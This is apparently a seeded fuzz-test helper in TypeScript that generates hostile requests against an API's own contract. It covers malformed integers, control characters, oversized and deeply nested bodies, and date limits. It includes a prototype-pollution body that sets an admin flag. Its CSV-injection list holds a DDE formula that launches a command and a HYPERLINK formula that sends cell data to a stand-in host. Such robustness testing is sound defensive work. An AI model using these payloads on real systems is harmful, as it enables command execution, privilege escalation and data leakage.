// Hostile requests derived from an operation's contract: out-of-range and non-canonical integers,
// control characters, prototype keys, long, huge and deep values, wrong content types and
// malformed encodings. Seeded, so a failure names the seed that reproduces it.
import type { Operation, ParameterObject } from '../src/http/contract.js';
import { mulberry32 } from '../src/registrations/generate.js';

/** The fuzz suite's generator: the same seed gives the same requests. */
export const seeded = mulberry32;

/** One request to send. */
export interface HostileRequest {
  label: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
}

/** A marker repeated: an answer that contains a run of it echoed long input. */
export const LONG = 'Ω'.repeat(5000);
export const ECHO = 'Ω'.repeat(100);
/** Past the API's body limit (1 MiB). */
const HUGE = 'x'.repeat(1_100_000);

const schemaOf = (p: ParameterObject): Record<string, unknown> => p.schema ?? {};
const isInteger = (schema: Record<string, unknown>) =>
  schema.type === 'integer' ||
  (schema.type === 'array' &&
    typeof schema.items === 'object' &&
    schema.items !== null &&
    (schema.items as Record<string, unknown>).type === 'integer');

const INTEGERS = ['2147483648', '-2147483649', '1e400', '021', '0x15', '+21', '%2021', '21.5'];
const STRINGS = ['a%00b', 'a%1Bb', '%7B1%7D', '{1}', encodeURIComponent(LONG), '%E0%A4%A'];
const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString'];

/** A body deeper than any the API accepts, written as text (no recursion to build it). */
const deepBody = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Every hostile request for one operation, `limit` of them picked by `random`. */
export function hostileRequests(
  operation: Operation,
  headers: Record<string, string>,
  random: () => number,
  limit: number,
): HostileRequest[] {
  const pick = <T>(values: readonly T[]): T => values[Math.floor(random() * values.length)] as T;
  const query = operation.parameters.filter((p) => p.in === 'query');
  const path = operation.parameters.filter((p) => p.in === 'path');
  // A path with its parameters filled in; `override` replaces one of them.
  const urlWith = (override?: { name: string; value: string }, search = '') =>
    operation.url.replace(/:([A-Za-z0-9_]+)/g, (_, name: string) =>
      override?.name === name ? override.value : '1',
    ) + search;
  const jsonHeaders = { ...headers, 'content-type': 'application/json' };
  const out: HostileRequest[] = [];
  const add = (label: string, url: string, extra: Partial<HostileRequest> = {}) =>
    out.push({ label, method: operation.method, url, headers: headers, ...extra });

  for (const p of [...query, ...path]) {
    const values = isInteger(schemaOf(p)) ? INTEGERS : STRINGS;
    const value = pick(values);
    if (p.in === 'path')
      add(`path ${p.name}=${value.slice(0, 20)}`, urlWith({ name: p.name, value }));
    else add(`query ${p.name}=${value.slice(0, 20)}`, urlWith(undefined, `?${p.name}=${value}`));
  }
  add('query prototype key', urlWith(undefined, `?${pick(PROTOTYPE_KEYS)}=1&a=%ZZ`));
  add('malformed path encoding', `${urlWith()}%E0%A4%A`);
  add('unknown Domain, long', urlWith(), { headers: { ...headers, domain: LONG.slice(0, 4000) } });
  add('Domain with control characters', urlWith(), {
    headers: { ...headers, domain: 'abracaf\u0001' },
  });

  if (operation.method !== 'GET') {
    const body = operation.bodySchema;
    const properties =
      body && typeof body.properties === 'object' && body.properties !== null
        ? Object.keys(body.properties)
        : [];
    const field = properties.length > 0 ? pick(properties) : 'campo';
    const sample = (value: unknown) => JSON.stringify({ [field]: value });
    add('body NUL', urlWith(), { headers: jsonHeaders, payload: sample('a\u0000b') });
    add('body int past int32', urlWith(), { headers: jsonHeaders, payload: sample(2147483648) });
    add('body long string', urlWith(), { headers: jsonHeaders, payload: sample(LONG) });
    add('body prototype keys', urlWith(), {
      headers: jsonHeaders,
      payload: `{"__proto__":{"admin":true},"constructor":{"prototype":1},"${field}":1}`,
    });
    add('body sort by prototype key', urlWith(), {
      headers: jsonHeaders,
      payload: JSON.stringify({
        draw: 1,
        start: 0,
        length: 10,
        order: [{ column: pick(PROTOTYPE_KEYS), dir: 'asc' }],
      }),
    });
    add('body deep', urlWith(), { headers: jsonHeaders, payload: deepBody(5000) });
    add('body huge', urlWith(), { headers: jsonHeaders, payload: sample(HUGE) });
    add('body not JSON', urlWith(), { headers: jsonHeaders, payload: '{"a":' });
    add('body wrong type', urlWith(), {
      headers: { ...headers, 'content-type': pick(['text/plain', 'application/xml']) },
      payload: '<a/>',
    });
    add('body a bare value', urlWith(), {
      headers: jsonHeaders,
      payload: pick(['null', '[]', '1e400']),
    });
  } else {
    add('JSON body on a GET', urlWith(), { headers: jsonHeaders, payload: '{}' });
  }
  // Shuffle (Fisher–Yates, seeded) and keep `limit`.
  for (let i = out.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [out[i], out[j]] = [out[j] as HostileRequest, out[i] as HostileRequest];
  }
  return out.slice(0, limit);
}

/**
 * Names a spreadsheet reads as formulas (OWASP's CSV injection guidance): each starts with one of
 * = + - @ tab CR.
 */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://x.test/?"&A1;"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** Days at the contract's limits and past them (1900-01-01 to 2199-12-31 are taken). */
export const DAYS_INSIDE = ['1900-01-01', '2199-12-31'];
export const DAYS_OUTSIDE = ['1899-12-31', '2200-01-01', '9999-12-31', '0001-01-01'];

const isDate = (schema: unknown): boolean =>
  typeof schema === 'object' &&
  schema !== null &&
  (schema as { format?: unknown }).format === 'date';

/** The paths (dotted) of every date property of a body schema, nested objects included. */
function datePaths(schema: unknown, at: string[] = [], depth = 0): string[][] {
  if (typeof schema !== 'object' || schema === null || depth > 4) return [];
  const properties = (schema as { properties?: Record<string, unknown> }).properties ?? {};
  return Object.entries(properties).flatMap(([name, value]) =>
    isDate(value) ? [[...at, name]] : datePaths(value, [...at, name], depth + 1),
  );
}

/** A body holding `value` at `path` alone. */
const bodyAt = (path: string[], value: string): unknown =>
  path.reduceRight<unknown>((inner, name) => ({ [name]: inner }), value);

/** Every date field of an operation (query, path, body) at each limit and past it. */
export function dateRequests(
  operation: Operation,
  headers: Record<string, string>,
): (HostileRequest & { field: string; outside: boolean })[] {
  const out: (HostileRequest & { field: string; outside: boolean })[] = [];
  const days = [
    ...DAYS_INSIDE.map((day) => ({ day, outside: false })),
    ...DAYS_OUTSIDE.map((day) => ({ day, outside: true })),
  ];
  const base = operation.url.replace(/:([A-Za-z0-9_]+)/g, '1');
  const required = operation.parameters.filter((p) => p.in === 'query' && p.required === true);
  for (const p of operation.parameters.filter((q) => q.in === 'query' && isDate(q.schema)))
    for (const { day, outside } of days) {
      // The other required dates of the call at a plain day, so the one under test is judged.
      const others = required
        .filter((q) => q.name !== p.name && isDate(q.schema))
        .map((q) => `&${q.name}=2025-01-01`)
        .join('');
      out.push({
        label: `query ${p.name}=${day}`,
        method: operation.method,
        url: `${base}?${p.name}=${day}${others}`,
        headers,
        field: p.name,
        outside,
      });
    }
  if (operation.method !== 'GET')
    for (const path of datePaths(operation.bodySchema))
      for (const { day, outside } of days)
        out.push({
          label: `body ${path.join('.')}=${day}`,
          method: operation.method,
          url: base,
          headers: { ...headers, 'content-type': 'application/json' },
          payload: JSON.stringify(bodyAt(path, day)),
          field: path.join('.'),
          outside,
        });
  return out;
}
